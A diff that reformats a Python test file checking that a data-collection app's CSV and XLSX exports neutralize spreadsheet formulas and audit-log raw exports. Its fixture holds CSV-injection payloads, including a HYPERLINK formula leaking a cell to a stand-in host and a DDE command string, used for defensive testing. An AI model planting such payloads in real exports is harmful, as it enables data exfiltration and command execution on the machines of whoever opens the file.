@@ -31,8 +31,10 @@ SERVER_ENGINES = ("sqlite",)
 FORM_ID = "field_notes"
 # (stored text, what a CSV cell must hold)
 TEXTS = [
-    ('=HYPERLINK("http://example.invalid/?leak="&A1, "Click")',
-     '\'=HYPERLINK("http://example.invalid/?leak="&A1, "Click")'),
+    (
+        '=HYPERLINK("http://example.invalid/?leak="&A1, "Click")',
+        '\'=HYPERLINK("http://example.invalid/?leak="&A1, "Click")',
+    ),
     ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
     ("@SUM(1+1)", "'@SUM(1+1)"),
     ("-2+3", "'-2+3"),
@@ -46,15 +48,37 @@ TEXTS = [
 
 def notes_form() -> dict:
     return {
-        "form_id": FORM_ID, "version": "1", "title": {"en": "Field notes"},
+        "form_id": FORM_ID,
+        "version": "1",
+        "title": {"en": "Field notes"},
         "sections": [
-            {"name": "main", "label": {"en": "Main"}, "questions": [
-                {"name": "remark", "type": "text", "label": {"en": "Remark"}, "privacy": "keep"},
-                {"name": "balance", "type": "integer", "label": {"en": "Balance"}}]},
-            {"name": "members", "label": {"en": "Members"}, "repeat": True, "questions": [
-                {"name": "member_note", "type": "text", "label": {"en": "Note"},
-                 "privacy": "keep"},
-                {"name": "member_balance", "type": "decimal", "label": {"en": "Balance"}}]},
+            {
+                "name": "main",
+                "label": {"en": "Main"},
+                "questions": [
+                    {
+                        "name": "remark",
+                        "type": "text",
+                        "label": {"en": "Remark"},
+                        "privacy": "keep",
+                    },
+                    {"name": "balance", "type": "integer", "label": {"en": "Balance"}},
+                ],
+            },
+            {
+                "name": "members",
+                "label": {"en": "Members"},
+                "repeat": True,
+                "questions": [
+                    {
+                        "name": "member_note",
+                        "type": "text",
+                        "label": {"en": "Note"},
+                        "privacy": "keep",
+                    },
+                    {"name": "member_balance", "type": "decimal", "label": {"en": "Balance"}},
+                ],
+            },
         ],
     }
 
@@ -67,11 +91,22 @@ def notes(team):  # noqa: F811 - the fixture imported above
     store.close()
     records = []
     for n, (text, _) in enumerate(TEXTS):
-        records.append({
-            "uuid": str(uuid.uuid4()), "revision": 1, "form_id": FORM_ID, "form_version": "1",
-            "locale": "en", "collected": "2026-11-20", "enumerator": None,
-            "answers": {"remark": text, "balance": -7 - n,
-                        "members": [{"member_note": text, "member_balance": -1.5 - n}]}})
+        records.append(
+            {
+                "uuid": str(uuid.uuid4()),
+                "revision": 1,
+                "form_id": FORM_ID,
+                "form_version": "1",
+                "locale": "en",
+                "collected": "2026-11-20",
+                "enumerator": None,
+                "answers": {
+                    "remark": text,
+                    "balance": -7 - n,
+                    "members": [{"member_note": text, "member_balance": -1.5 - n}],
+                },
+            }
+        )
     Device(team).stored(records)
     return records
 
@@ -101,8 +136,12 @@ def check_raw(main: bytes, members: bytes, records) -> None:
 
 
 def exports_audit(central) -> list[str]:
-    return [row["detail"] for row in query(
-        central.database, "SELECT detail FROM audit WHERE action = 'export' ORDER BY id")]
+    return [
+        row["detail"]
+        for row in query(
+            central.database, "SELECT detail FROM audit WHERE action = 'export' ORDER BY id"
+        )
+    ]
 
 
 def test_web_csv_exports_neutralize_formulas(team, notes):
@@ -124,12 +163,16 @@ def test_raw_web_export_keeps_values_as_stored_and_is_logged(team, notes):
     members = analyst.get(f"/data/{FORM_ID}/export.csv?repeat=members&raw=1{records}")
     check_raw(main.content, members.content, notes)
     stored = " records as stored, reason: formula check"
-    assert exports_audit(team) == [f"{FORM_ID} csv raw{stored}",
-                                   f"{FORM_ID} csv repeat members raw{stored}"]
+    assert exports_audit(team) == [
+        f"{FORM_ID} csv raw{stored}",
+        f"{FORM_ID} csv repeat members raw{stored}",
+    ]
     # Anything but raw=1 is the safe export; a viewer gets no export at all.
-    check_neutralized(analyst.get(f"/data/{FORM_ID}/export.csv?raw=yes{records}").content,
-                      analyst.get(f"/data/{FORM_ID}/export.csv?repeat=members&raw=0{records}").content,
-                      notes)
+    check_neutralized(
+        analyst.get(f"/data/{FORM_ID}/export.csv?raw=yes{records}").content,
+        analyst.get(f"/data/{FORM_ID}/export.csv?repeat=members&raw=0{records}").content,
+        notes,
+    )
     assert signed_in(team, "viewer").get(f"/data/{FORM_ID}/export.csv?raw=1").status_code == 403
 
 
@@ -138,20 +181,38 @@ def test_command_line_csv_neutralizes_unless_raw(team, notes, tmp_path):
 
     def export(name, *options):
         out = tmp_path / name
-        result = CliRunner().invoke(cli, ["export", "--form", FORM_ID, "--format", "csv",
-                                          "--output", str(out), "--data-dir", data_dir, *options,
-                                          "--raw-records", "--reason", "formula check"])
+        result = CliRunner().invoke(
+            cli,
+            [
+                "export",
+                "--form",
+                FORM_ID,
+                "--format",
+                "csv",
+                "--output",
+                str(out),
+                "--data-dir",
+                data_dir,
+                *options,
+                "--raw-records",
+                "--reason",
+                "formula check",
+            ],
+        )
         assert result.exit_code == 0, result.output
         return out.read_bytes()
 
     check_neutralized(export("main.csv"), export("members.csv", "--repeat", "members"), notes)
-    check_raw(export("raw.csv", "--raw"), export("raw-members.csv", "--repeat", "members",
-                                                   "--raw"), notes)
+    check_raw(
+        export("raw.csv", "--raw"), export("raw-members.csv", "--repeat", "members", "--raw"), notes
+    )
     stored = " records as stored, reason: formula check"
-    assert exports_audit(team) == [f"{FORM_ID} csv{stored}",
-                                   f"{FORM_ID} csv repeat members{stored}",
-                                   f"{FORM_ID} csv raw{stored}",
-                                   f"{FORM_ID} csv repeat members raw{stored}"]
+    assert exports_audit(team) == [
+        f"{FORM_ID} csv{stored}",
+        f"{FORM_ID} csv repeat members{stored}",
+        f"{FORM_ID} csv raw{stored}",
+        f"{FORM_ID} csv repeat members raw{stored}",
+    ]
 
 
 def test_xlsx_writes_text_as_text_never_as_a_formula(team, notes, tmp_path):
